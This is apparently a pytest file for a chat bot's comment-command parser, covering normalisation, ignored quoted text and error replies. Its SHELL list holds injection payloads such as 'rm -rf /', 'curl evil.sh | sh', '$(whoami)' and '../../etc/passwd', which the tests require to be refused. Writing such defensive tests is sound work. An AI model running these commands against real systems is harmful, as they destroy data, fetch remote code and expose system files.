"""The surface grammar over real comment text: what counts as a command, and how odd input is read or refused."""

from __future__ import annotations

import pytest

from commands import Ignore, Parsed, Reply
from commands.grammar import TokenError, normalise, scan, split_words

# (comment text, the canonical commands it yields, in order)
PARSED = [
    ("/train tiny", ["/train tiny"]),
    ("/TRAIN Tiny", ["/train tiny"]),
    ("Thanks!\r\n/train tiny max_steps=20\r\n", ["/train tiny max_steps=20"]),
    ("old mac\r/status\r", ["/status"]),
    ("   /status   ", ["/status"]),
    ("@tunebot train tiny", ["/train tiny"]),
    ("@TuneBot: /train tiny", ["/train tiny"]),
    ("@tunebot[bot] status r-1", ["/status r-1"]),
    ("/train tiny\n/eval cmmlu model=tiny", ["/train tiny", "/eval cmmlu model=tiny"]),
    # autocorrect and input-method artefacts
    ("/train tiny —lora_rank=16", ["/train tiny lora_rank=16"]),
    ("/train tiny –lora_rank=16", ["/train tiny lora_rank=16"]),
    ("/train tiny --lora_rank=16", ["/train tiny lora_rank=16"]),
    ("/train tiny lora_rank＝16", ["/train tiny lora_rank=16"]),
    ("／ｔｒａｉｎ　ｔｉｎｙ　ｍａｘ＿ｓｔｅｐｓ＝２０", ["/train tiny max_steps=20"]),
    ("/train\u200b tiny max_\u200bsteps=20", ["/train tiny max_steps=20"]),
    ("\ufeff/train tiny", ["/train tiny"]),
    ("/train tiny learning_rate=1e−4", ["/train tiny learning_rate=0.0001"]),
    ("/train tiny dataset=“tiny-mcq”", ["/train tiny dataset=tiny-mcq"]),
    ("/eval cmmlu，ceval model=tiny", ["/eval ceval cmmlu model=tiny"]),
    ("/eval cmmlu、ceval model=tiny", ["/eval ceval cmmlu model=tiny"]),
    ("/train tiny max_steps=20.", ["/train tiny max_steps=20"]),
    ("/train tiny max_steps=20。", ["/train tiny max_steps=20"]),
    # spacing around `=`, quotes, aliases, case
    ("/train tiny lora_rank = 16", ["/train tiny lora_rank=16"]),
    ("/train tiny lora_rank= 16", ["/train tiny lora_rank=16"]),
    ("/train tiny lora_rank =16", ["/train tiny lora_rank=16"]),
    ("/train tiny lr=1e-3 bs=4 Lora-Rank=8", [
        "/train tiny learning_rate=0.001 lora_rank=8 per_device_train_batch_size=4"]),
    ('/train tiny dataset="tiny-mcq"', ["/train tiny dataset=tiny-mcq"]),
    ("/train tiny dataset='tiny-mcq'", ["/train tiny dataset=tiny-mcq"]),
    ("/train\ttiny\tmax_steps=3", ["/train tiny max_steps=3"]),
    # unknown verbs of other bots are not ours; ours still run
    ("/cc @alice\n/train tiny", ["/train tiny"]),
    ("/ok_to_train", ["/ok-to-train"]),
    ("/ok-to-test", ["/ok-to-train"]),
]


@pytest.mark.parametrize(("text", "expected"), PARSED)
def test_commands_are_read(parse, text: str, expected: list[str]) -> None:
    decision = parse(text)
    assert isinstance(decision, Parsed), decision
    assert [c.render() for c in decision.commands] == expected


IGNORED = [
    ("", "no command"),
    ("LGTM, thanks!", "no command"),
    ("> /train tiny", "quoted"),
    ("> > /train tiny", "quoted"),
    ("   > /train tiny", "quoted"),
    ("```\n/train tiny\n```", "code block"),
    ("~~~bash\n/train tiny\n~~~", "code block"),
    ("````\n```\n/train tiny\n```\n````", "code block"),
    ("Try `/train tiny` to start", "no command"),
    ("`/train tiny`", "no command"),
    ("<!-- /train tiny -->", "HTML comment"),
    ("<!--\n/train tiny\n-->", "HTML comment"),
    ("Example:\n\n    /train tiny\n", "indented code block"),
    ("please run /train tiny", "no command"),
    ("/usr/bin/python is broken", "no command"),
    ("/cc @alice", "other verbs: cc"),
    ("/dance", "other verbs: dance"),
    ("/assign @bob\n/lgtm", "other verbs: assign, lgtm"),
    ("@someone train tiny", "no command"),
]


@pytest.mark.parametrize(("text", "reason"), IGNORED)
def test_text_about_commands_is_ignored(parse, text: str, reason: str) -> None:
    decision = parse(text)
    assert isinstance(decision, Ignore), decision
    assert reason in decision.reason


def test_a_fence_that_is_never_closed_hides_the_rest(parse) -> None:
    assert isinstance(parse("```\n/train tiny"), Ignore)


def test_a_command_after_a_closed_fence_counts(parse) -> None:
    decision = parse("```\n/train tiny max_steps=1\n```\n/train tiny max_steps=2")
    assert isinstance(decision, Parsed)
    assert [c.render() for c in decision.commands] == ["/train tiny max_steps=2"]


def test_indented_line_continuing_a_paragraph_is_not_code(parse) -> None:
    decision = parse("Please:\n    /status")
    assert isinstance(decision, Parsed)


REFUSED = [
    ("/trian tiny", "did you mean `/train`?"),
    ("/evl cmmlu", "did you mean `/eval`?"),
    ("@tunebot xyzzy", "unknown command `/xyzzy`; `/help` lists the commands"),
    ("@tunebot 42", "`/42` is not a command; commands look like `/train <model> key=value`"),
    ("@tunebot dance", "unknown command `/dance`; did you mean `/cancel`?"),
    ("/train tiny lora_rank=16 lora_rank=8", "`lora_rank` is given twice"),
    ('/train tiny dataset="tiny-mcq', "quote is never closed"),
    ("/train tiny\u202e61=knar_arol", "invisible text-direction characters (U+202E)"),
    ("/train tiny lora_rank=\u2066 16", "U+2066"),
    ("/train tiny " + "x" * 3000, "the limit is 2,000"),
    ("/train tiny max_steps=2 =16", "has no key before `=`"),
    ("/train tiny =16", "unknown key `tiny`"),
    ("/train tiny -v", "command-line flags are not supported"),
    ("/train tiny --max_steps 20", "write `max_steps=…`"),
]


@pytest.mark.parametrize(("text", "message"), REFUSED)
def test_unreadable_commands_get_a_reply(parse, text: str, message: str) -> None:
    decision = parse(text)
    assert isinstance(decision, Reply), decision
    assert message in decision.text
    assert decision.text.startswith("⚠️ Nothing was started")


SHELL = [
    "/train tiny; rm -rf /",
    "/train tiny && curl evil.sh | sh",
    "/train tiny lora_rank=$(whoami)",
    "/train tiny lora_rank=`id`",
    "/train tiny dataset=$(curl${IFS}evil)",
    "/train tiny dataset=../../etc/passwd",
    "/train tiny dataset=/etc/passwd.json",
    "/train tiny dataset=data/../../x.jsonl",
    "/train tiny revision=main;reboot",
    "/eval cmmlu model=tiny limit=10|sh",
    "/status $(reboot)",
    "/compare 'main; rm -rf /' cmmlu",
    "/train 'tiny; reboot'",
    "/train tiny lora_rank=16\n/train tiny max_steps=`reboot`",
]


@pytest.mark.parametrize("text", SHELL)
def test_shell_metacharacters_never_reach_a_command(parse, text: str) -> None:
    decision = parse(text)
    assert isinstance(decision, Reply), decision
    # Echoed user text never contains backticks that could break out of the code span.
    for line in decision.text.splitlines():
        assert line.count("`") % 2 == 0, line


def test_hundred_kilobyte_comment_is_read_quickly(parse) -> None:
    filler = ("lorem ipsum dolor sit amet " * 40 + "\n") * 95  # ~100 KB of prose
    decision = parse(filler + "/train tiny max_steps=5\n" + filler)
    assert isinstance(decision, Parsed)
    assert decision.commands[0].lineno == 96
    assert len(filler) * 2 > 100_000


def test_hundred_kilobyte_single_line_is_refused_not_parsed(parse) -> None:
    decision = parse("/train tiny " + "a=b " * 25_000)
    assert isinstance(decision, Reply)
    assert "characters long" in decision.text


def test_too_many_commands_in_one_comment(parse) -> None:
    decision = parse("\n".join(["/status"] * 11))
    assert isinstance(decision, Reply)
    assert "holds 11 commands" in decision.text


def test_per_comment_cap_on_dispatches(parse) -> None:
    ok = parse("\n".join(["/train tiny"] * 3))
    assert isinstance(ok, Parsed) and len(ok.commands) == 3
    over = parse("\n".join(["/train tiny"] * 4))
    assert isinstance(over, Reply)
    assert "would start 4 jobs; the limit is 3" in over.text


def test_one_bad_line_starts_nothing(parse) -> None:
    decision = parse("/train tiny\n/eval cmmlu model=nope")
    assert isinstance(decision, Reply)
    assert "line 2" in decision.text and "unknown model `nope`" in decision.text


def test_notes_say_how_artefacts_were_read(parse) -> None:
    decision = parse("/train tiny —lora_rank=16 lr=1e-3")
    assert isinstance(decision, Parsed)
    assert any("as `lora_rank=16`" in n for n in decision.notes)
    assert any("as `learning_rate=1e-3`" in n for n in decision.notes)


def test_custom_bot_login(parse) -> None:
    assert isinstance(parse("@ml-bot status", bot_login="ml-bot[bot]"), Parsed)
    assert isinstance(parse("@tunebot status", bot_login="ml-bot"), Ignore)


def test_bare_mention_gets_help(parse) -> None:
    decision = parse("@tunebot")
    assert isinstance(decision, Reply)
    assert "tunebot commands" in decision.text


def test_help_alone_is_a_reply_and_beside_commands_a_note(parse) -> None:
    alone = parse("/help train")
    assert isinstance(alone, Reply) and "`/train <model> [key=value…]`" in alone.text
    mixed = parse("/help eval\n/train tiny")
    assert isinstance(mixed, Parsed)
    assert [c.verb for c in mixed.commands] == ["train"]
    assert any("/eval <benchmark" in n for n in mixed.notes)


def test_non_string_input_is_ignored(parse) -> None:
    assert isinstance(parse(None), Ignore)  # type: ignore[arg-type]


def test_normalise_maps_autocorrect_back() -> None:
    assert normalise("a\u2014b“c”‘d’\u00a0e\u3000f") == "a--b\"c\"'d' e f"
    assert normalise("x\x00y\x1bz") == "x y z"


def test_split_words() -> None:
    words = split_words('a k=v "q r" s="t u" x = y')
    assert [(w.key, w.value) for w in words] == [
        (None, "a"), ("k", "v"), (None, "q r"), ("s", "t u"), ("x", "y")]
    with pytest.raises(TokenError):
        split_words("'open")
    assert [(w.key, w.value) for w in split_words("k= ")] == [("k", "")]
    assert [(w.key, w.value) for w in split_words("k =")] == [("k", "")]
    assert [(w.key, w.value) for w in split_words('""')] == [(None, "")]  # an empty quoted word is still a word


def test_scan_reports_skips_and_lines() -> None:
    result = scan("> /train x\n```\n/eval y\n```\n/status\n<!-- /help -->")
    assert [c.lineno for c in result.commands] == [5]
    assert len(result.skipped) == 3


def test_parse_command_reads_one_line(catalog, policy) -> None:
    from commands import Command
    from commands.parse import parse_command

    assert parse_command("/train tiny", catalog=catalog, policy=policy) == Command("train", {"model": "tiny"})
    assert parse_command("/status\n/status", catalog=catalog, policy=policy) == "expected exactly one command line"
    assert parse_command("/nope", catalog=catalog, policy=policy) == "unknown command `/nope`"
    assert "invisible" in str(parse_command("/status \u202e", catalog=catalog, policy=policy))
    assert "between 1 and 256" in str(parse_command("/train tiny lora_rank=0", catalog=catalog, policy=policy))


def test_argspec_parsing_directly() -> None:
    from commands.args import ArgError, ArgSpec

    name = ArgSpec("x", "name", "a name")
    assert name.parse("ok-name_1.2") == "ok-name_1.2"
    with pytest.raises(ArgError, match="not a valid value for `x`"):
        name.parse("a b")
    assert ArgSpec("xs", "names", "names").parse("a,b,a") == ("a", "b")
    low_only = ArgSpec("n", "int", "n", low=1)
    assert low_only.describe() == "n" and low_only.parse("5") == 5
    with pytest.raises(ArgError, match="between 1 and \\?"):
        low_only.parse("0")
    assert ArgSpec("f", "float", "f", 0.5, 250_000).constraint() == "0.5–250000"
    assert ArgSpec("i", "int", "i", 0, 250_000).constraint() == "0–250_000"


def test_render_quotes_values_that_need_it() -> None:
    from commands import Command
    from commands.decision import render_value

    assert render_value("a b") == '"a b"' and render_value('say "x"') == "'say \"x\"'"
    assert render_value(True) == "true" and render_value(("a", "b")) == "a,b" and render_value(0.5) == "0.5"
    unknown = Command("mystery", {"k": "v w"})
    assert unknown.render() == '/mystery k="v w"' and hash(unknown) == hash(Command("mystery", {"k": "v w"}))
    assert Command("train", {"model": "tiny"}).get("missing", 3) == 3


def test_a_flood_of_bad_lines_gives_a_short_reply(parse) -> None:
    decision = parse("\n".join(["/train tiny " + "\u202e" * 50] * 5000))
    assert isinstance(decision, Reply)
    assert "… and 4990 more" in decision.text and len(decision.text) < 10_000
